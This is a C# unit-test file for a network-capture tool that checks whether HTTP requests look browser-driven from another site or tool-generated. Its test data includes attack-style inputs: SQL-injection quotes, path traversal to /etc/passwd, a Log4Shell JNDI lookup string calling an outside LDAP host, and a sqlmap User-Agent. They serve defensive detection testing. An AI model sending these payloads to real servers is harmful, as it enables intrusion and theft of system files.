using NetHawk.Capture.Peek;

namespace NetHawk.Tests.Capture;

/// <summary>What Chromium, Firefox and Safari send for what a page of another site asks for, and what tools and a site's own pages send.</summary>
public class LedRequestTests
{
    private const string Common = "Host: shop.example\r\nConnection: keep-alive\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36\r\n"
        + "Accept-Encoding: gzip, deflate\r\nAccept-Language: en-US,en;q=0.9\r\n";
    private const string Image = Common + "Accept: image/avif,image/webp,*/*;q=0.8\r\n", Any = Common + "Accept: */*\r\n", Page = Common + "Accept: text/html,*/*;q=0.8\r\nUpgrade-Insecure-Requests: 1\r\n";
    private const string Away = "Referer: http://other.example/\r\n", Here = "Referer: http://shop.example/forum\r\n", Form = "Content-Type: application/x-www-form-urlencoded\r\n";

    private static bool IsLed(string line, string headers) => HttpPeek.Request(System.Text.Encoding.Latin1.GetBytes($"{line} HTTP/1.1\r\n{headers}\r\n"), fromResponder: false).MayBeLed;

    [Theory]
    [InlineData("GET /?id=1%27", Image + Away)]
    [InlineData("GET /?id=1%27", Image)]
    [InlineData("GET /?id=1%27", Image + Here)]
    [InlineData("GET /?id=1%27", Any + Away)]
    [InlineData("GET /?id=1%27", Page)]
    [InlineData("GET /?id=1%27", Page + Away + "Cookie: session=1\r\n")]
    [InlineData("GET /?id=1%27", Page + "Sec-Fetch-Site: cross-site\r\n")]
    [InlineData("GET /a'b/..%2f..%2fc", Any + Away)]
    [InlineData("POST /login", Page + Form + "Origin: http://other.example\r\n")]
    [InlineData("POST /login", Page + Form + "Origin: null\r\n")]
    [InlineData("POST /api", Any + "Content-Type: text/plain;charset=UTF-8\r\nOrigin: http://other.example\r\n")]
    [InlineData("POST /api", Any + "Content-Type: multipart/form-data; boundary=x\r\nOrigin: http://other.example\r\n")]
    public void A_page_elsewhere_can_have_a_browser_send_it(string line, string headers) => Assert.True(IsLed(line, headers));

    [Theory]
    [InlineData("GET /?id=1%27", Page + Here)]
    [InlineData("GET /?id=1%27", Page + "Sec-Fetch-Site: same-origin\r\n")]
    [InlineData("GET /?id=1%27", Page + "Sec-Fetch-Site: none\r\n")]
    [InlineData("POST /login", Page + Form + Away)]
    [InlineData("POST /login", Page + Form + "Origin: http://shop.example\r\n")]
    [InlineData("POST /api", Any + "Content-Type: application/json\r\nOrigin: http://other.example\r\n")]
    [InlineData("PUT /a", Any + Away)]
    [InlineData("GET /a", Any + Away + "Authorization: Basic YTpi\r\n")]
    [InlineData("GET /a", Any + Away + "X-Requested-With: XMLHttpRequest\r\n")]
    [InlineData("GET /a", Any + Away + "X-Api-Version: ${jndi:ldap://192.0.2.4/a}\r\n")]
    [InlineData("GET /?id=1'", Image + Away)]
    [InlineData("GET /?id=<a>", Image + Away)]
    [InlineData("GET /a/../../etc/passwd", Image + Away)]
    [InlineData("GET /a/%2e%2E/passwd", Image + Away)]
    [InlineData("GET http://shop.example/", Image + Away)]
    [InlineData("GET /?id=1", "Host: shop.example\r\nUser-Agent: Mozilla/5.0 (X11)\r\nAccept: */*\r\nAccept-Encoding: gzip, deflate\r\nConnection: keep-alive\r\n")]
    [InlineData("GET /?id=1", "Host: shop.example\r\nUser-Agent: Mozilla/5.0 (X11)\r\nAccept: */*\r\nAccept-Language: en\r\nAccept-Encoding: gzip\r\nConnection: close\r\n")]
    [InlineData("GET /?id=1", "Host: shop.example\r\nUser-Agent: sqlmap/1.7\r\nAccept: */*\r\nAccept-Language: en\r\nAccept-Encoding: gzip, deflate\r\nConnection: keep-alive\r\n")]
    [InlineData("GET /?id=1", Common + "Accept: text/html,*/*;q=0.8\r\n")]
    public void Tools_and_pages_of_the_server_send_something_else(string line, string headers) => Assert.False(IsLed(line, headers));

    [Fact]
    public void What_is_not_all_there_is_not_taken_for_it() =>
        Assert.False(HttpPeek.Request(System.Text.Encoding.Latin1.GetBytes("GET /?id=1 HTTP/1.1\r\n" + Image + Away), fromResponder: false).MayBeLed);
}
